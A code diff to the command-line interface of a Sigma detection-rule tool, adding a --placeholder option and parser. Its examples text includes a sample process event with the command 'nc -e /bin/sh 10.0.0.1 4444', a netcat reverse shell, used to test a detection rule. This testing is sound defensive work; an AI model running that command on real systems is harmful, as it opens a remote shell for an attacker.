@@ -13,6 +13,7 @@ EXAMPLES = """examples:
   probewatch rules list --rules ~/sigma/rules/linux --json | jq '.rules | length'
   probewatch rules lint ~/sigma/rules/linux     every rule: runs, or why it cannot
   probewatch rules lint my.yml --filters site-exceptions/
+  probewatch rules lint my.yml --placeholder admins=root,ops   values for %admins% (|expand)
   probewatch rules test my.yml --event '{"kind": "process_creation",
       "fields": {"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}}'
   probewatch rules test 'Netcat reverse shell' --event @event.json
@@ -55,6 +56,8 @@ def register(sub: argparse._SubParsersAction) -> None:
                     help="Sigma filter files or directories (repeatable)")
     tp.add_argument("--with-default-rules", action="store_true",
                     help="load the shipped rules too (for correlations that refer to them)")
+    tp.add_argument("--placeholder", action="append", default=[], metavar="NAME=V1,V2",
+                    help="values of %%NAME%% for |expand (repeatable)")
     tp.add_argument("--strict", action="store_true", help="warnings fail too")
     tp.add_argument("--json", action="store_true", help="one JSON object on stdout")
     tp.set_defaults(func=run_lint)
@@ -79,13 +82,31 @@ def _common(p: argparse.ArgumentParser) -> None:
     p.add_argument("--no-default-rules", action="store_true", help="without the shipped rules")
     p.add_argument("--filters", action="append", default=[], metavar="PATH",
                    help="Sigma filter files or directories (repeatable)")
+    p.add_argument("--placeholder", action="append", default=[], metavar="NAME=V1,V2",
+                   help="values of %%NAME%% for |expand (repeatable)")
     p.add_argument("--json", action="store_true", help="JSON on stdout")
 
 
-def _load(paths: list[str], default: bool, filters: list[str]) -> Any:
+def placeholders(specs: list[str]) -> dict[str, list[str]]:
+    """``NAME=V1,V2`` options as RuleSet.load's placeholders (ValueError when malformed)."""
+    out: dict[str, list[str]] = {}
+    for s in specs:
+        name, sep, vals = s.partition("=")
+        if not sep or not name.strip():
+            raise ValueError(f"--placeholder {s!r}: expected NAME=VALUE[,VALUE...]")
+        out.setdefault(name.strip().strip("%"), []).extend(v for v in vals.split(",") if v)
+    return out
+
+
+def _load(args: argparse.Namespace, paths: list[Any], default: bool) -> Any:
     from ..detect.engine import RuleSet
 
-    return RuleSet.load(paths, default=default, filters=filters)
+    try:
+        ph = placeholders(args.placeholder)
+    except ValueError as e:
+        print(f"probewatch rules: {e}", file=sys.stderr)
+        raise SystemExit(2) from None
+    return RuleSet.load(paths, default=default, filters=args.filters, placeholders=ph)
 
 
 def run_list(args: argparse.Namespace) -> int:
@@ -97,7 +118,7 @@ def run_list(args: argparse.Namespace) -> int:
     except ValueError as e:
         print(f"probewatch rules: {e}", file=sys.stderr)
         return 2
-    rs = _load(args.rules, not args.no_default_rules, args.filters)
+    rs = _load(args, args.rules, not args.no_default_rules)
     rules = [r for r in rs.rules if at_least(r.level or UNSET_LEVEL, minimum)]
     if args.json:
         doc = {"rules": [r.to_dict() for r in rules],
@@ -131,7 +152,7 @@ def run_list(args: argparse.Namespace) -> int:
 def run_lint(args: argparse.Namespace) -> int:
     paths = list(args.paths)
     default = args.with_default_rules or not paths
-    rs = _load(paths, default, args.filters)
+    rs = _load(args, paths, default)
     bad = [p for p in rs.report if not p.runs]
     warn = [p for p in rs.report if p.runs]
     if args.json:
@@ -181,7 +202,7 @@ def _read_events(specs: list[str]) -> list[dict[str, Any]]:
 
 
 def run_test(args: argparse.Namespace) -> int:
-    from ..detect.engine import Engine, RuleSet
+    from ..detect.engine import Engine
     from ..detect.model import SigmaEvent
 
     try:
@@ -191,12 +212,11 @@ def run_test(args: argparse.Namespace) -> int:
         return 2
     target = Path(args.rule)
     if target.exists():
-        rs = RuleSet.load([target, *args.rules], default=not args.no_default_rules,
-                          filters=args.filters)
+        rs = _load(args, [target, *args.rules], not args.no_default_rules)
         mine = [r for r in rs.rules if r.path == str(target)]
         probs = [p for p in rs.report if p.path == str(target) and not p.runs]
     else:
-        rs = _load(args.rules, not args.no_default_rules, args.filters)
+        rs = _load(args, args.rules, not args.no_default_rules)
         r = rs.get(args.rule)
         mine = [r] if r is not None else []
         probs = [p for p in rs.report if args.rule in (p.rule_id,) and not p.runs]
